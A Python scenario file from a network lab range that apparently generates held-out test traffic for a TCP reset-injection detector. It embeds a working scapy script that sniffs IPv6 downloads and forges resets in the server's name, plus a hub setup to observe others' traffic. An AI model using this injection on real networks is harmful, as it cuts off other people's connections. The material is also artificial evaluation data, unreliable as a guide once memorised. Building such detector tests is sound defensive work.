"""RSTs with right numbers over IPv6, from a station that listens."""

from lab.range import Range
from lab.scenario import Scenario

# tcpkill knows no IPv6.
PROGRAM = """
import sys
done = [0]
def look(packet):
    tcp = packet[TCP]
    if tcp.flags & 0x06 or done[0] >= 9:
        return
    done[0] += 1
    for step in (0, 500):
        forged = IPv6(src=packet[IPv6].dst, dst=packet[IPv6].src, hlim=61) / TCP(
            sport=tcp.dport, dport=tcp.sport, flags="R", seq=tcp.ack + step)
        sendp(Ether(dst=packet.src) / forged)
sniff(filter=f"ip6 and tcp and src host {sys.argv[1]} and dst port 80", prn=look, timeout=float(sys.argv[2]))
"""


def run(net: Range) -> None:
    attacker = net.inside("attacker")
    web, pc3 = net.web(), net.inside("pc3")
    # A hub in a switch's place: the attacker sees what others say, as on a mirror port or a WLAN.
    net.bridge.run("ip", "link", "set", "inside", "type", "bridge", "ageing_time", "0")
    net.everyday()
    url = f"http://[{web.ip6}]/report.pdf"
    net.loop(pc3, f"curl -s -m 20 --limit-rate 20k -o /dev/null -g {url}", 0.5)
    net.quiet(2)
    with net.attack(
        "rst-injection",
        by=attacker,
        victims=[web.ip6, pc3.ip6],
        attacker_known=False,
        others={"sender": [attacker.mac], "claimed": [web.ip6]},
        frames=f"ip6 and ip6[6] == 6 and src host {web.ip6}",
        responses=f"ip6 and ip6[6] == 6 and host {pc3.ip6}",
    ):
        net.scapy(attacker, PROGRAM, pc3.ip6, "6")
    net.quiet(2)


SCENARIO = Scenario(
    name="rst-injection-held-ipv6",
    about="A station that sees downloads over IPv6 ends them with RSTs in the server's name.",
    detectors=("rst-injection",),
    held_out=True,
    run=run,
    snap_octets=96,
)
